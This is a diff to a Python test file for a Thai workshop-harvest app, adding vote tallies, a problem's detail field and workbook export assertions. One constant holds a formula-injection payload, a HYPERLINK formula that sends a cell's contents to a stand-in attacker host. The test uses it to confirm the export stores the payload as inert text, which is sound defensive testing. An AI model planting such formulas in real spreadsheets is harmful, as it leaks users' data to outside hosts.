@@ -13,12 +13,13 @@ from app.labels import label
 from app.models import WorkshopSession
 from app.models.workshops import ContributionKind
 from app.services import harvest as harvests
-from app.services import plans, workshops
+from app.services import plans, votes, workshops
 from tests import factories as f
 from tests.conftest import QueryCounter
 
 NOT_DECIDED = "ยังไม่ได้ตัดสิน"
 ARCHIVED = "เก็บเข้าคลังแล้ว"
+CAUSE = "ผู้ปกครองย้ายไปหางานในเมือง"
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
 
 
@@ -37,7 +38,7 @@ class Workshop:
 def make_harvest_workshop(session: Session, slug: str = "krabi") -> Workshop:
     """A session with one contribution of each fate: a KPI idea accepted as KPI2, a problem in
     the tree, a resource in the inventory, a question, an action idea accepted then deleted
-    from the plan, one archived and one not yet decided."""
+    from the plan, one archived and one not yet decided; two closed votes."""
     plan = f.make_plan(session, slug)
     f.make_kpi(session, plan, "KPI1")
     workshop = f.make_workshop(session, slug, title="เวทีระดมความคิด รอบที่ 1")
@@ -50,13 +51,31 @@ def make_harvest_workshop(session: Session, slug: str = "krabi") -> Workshop:
     w = Workshop(
         workshop,
         kpi_idea=post(teacher, "kpi_idea", "ร้อยละนักเรียนที่อ่านหนังสือทุกวัน"),
-        problem=post(teacher, "problem", "นักเรียนย้ายโรงเรียนบ่อย"),
+        problem=post(teacher, "problem", "นักเรียนย้ายโรงเรียนบ่อย", detail=CAUSE),
         resource=post(parent, "resource", "ห้องสมุดชุมชน", dimension="knowledge"),
         question=post(parent, "question", "ใครเก็บข้อมูลการอ่าน?"),
         archived=post(parent, "problem", "ถนนเข้าโรงเรียนเป็นหลุมบ่อ"),
         undecided=post(teacher, "action_idea", "ค่ายภาษาไทยช่วงปิดเทอม"),
         action=post(teacher, "action_idea", "ครูพี่เลี้ยงการอ่าน"),
     )
+    # two votes: three dots on the undecided action idea, one choice for the KPI idea
+    for vote_in, ballots in (
+        (
+            {"kind": "action_idea", "dots": "3"},
+            ((teacher, w.undecided),) * 2 + ((parent, w.undecided),),
+        ),
+        ({"kind": "kpi_idea", "mode": "single"}, ((parent, w.kpi_idea),)),
+    ):
+        vote = votes.open_vote(session, actor=f.ACTOR, workshop=workshop, vote_in=vote_in)
+        for guest, contribution_id in ballots:
+            votes.cast(
+                session,
+                workshop=workshop,
+                participant=guest,
+                vote_id=vote.id,
+                contribution_id=contribution_id,
+            )
+        votes.close_vote(session, actor=f.ACTOR, workshop=workshop, vote_id=vote.id)
     for contribution_id in (w.kpi_idea, w.problem, w.resource, w.question, w.action):
         workshops.accept(session, actor=f.ACTOR, workshop=workshop, contribution_id=contribution_id)
     workshops.archive(session, actor=f.ACTOR, workshop=workshop, contribution_id=w.archived)
@@ -98,9 +117,12 @@ def test_every_contribution_is_harvested_step_by_step_with_what_became_of_it(
     assert items[w.action].became == "รับแล้ว แต่องค์ประกอบของแผนที่สร้างจากข้อเสนอนี้ถูกลบไปภายหลัง"
     assert items[w.archived].became == ARCHIVED
     assert items[w.undecided].became == NOT_DECIDED
-    assert items[w.problem].contribution.group_label == "ครู"
+    assert items[w.problem].contribution.group_label == "ครู" and items[w.problem].detail == CAUSE
     assert items[w.resource].contribution.dimension == "knowledge"
-    assert all(item.votes is None for item in harvest.items)  # no voting yet
+    assert {i.contribution.id: i.votes for i in harvest.items if i.votes} == {
+        w.undecided: 3,
+        w.kpi_idea: 1,
+    }
     problems = next(step for step in harvest.steps if step.kind == "problem")
     # oldest first, the archived one in its place
     assert [i.contribution.id for i in problems.items] == [w.problem, w.archived]
@@ -140,6 +162,9 @@ def test_the_workbook_has_a_row_per_contribution_and_a_summary(session: Session)
     assert [step for step, _ in groupby(r["ขั้นตอน"] for r in rows)] == steps  # step by step
     kpi = next(r for r in rows if r["ข้อความ"] == "ร้อยละนักเรียนที่อ่านหนังสือทุกวัน")
     assert "KPI2" in kpi["สิ่งที่เกิดขึ้นต่อมา"] and kpi["ผู้เสนอ"] == "ครูสมศรี"
+    assert kpi["จุดโหวต"] == 1
+    moving = next(r for r in rows if r["ข้อความ"] == "นักเรียนย้ายโรงเรียนบ่อย")
+    assert moving["รายละเอียด"] == CAUSE and moving["กลุ่ม"] == "ครู"
     assert f" {be_year(thai_today().year)} " in kpi["เวลาที่เสนอ"]  # Buddhist Era, Thai time
     hostile = next(row for row in sheet.iter_rows(2) if row[2].value == INJECTION)
     assert hostile[2].data_type == "s" and hostile[2].quotePrefix  # shown, never run
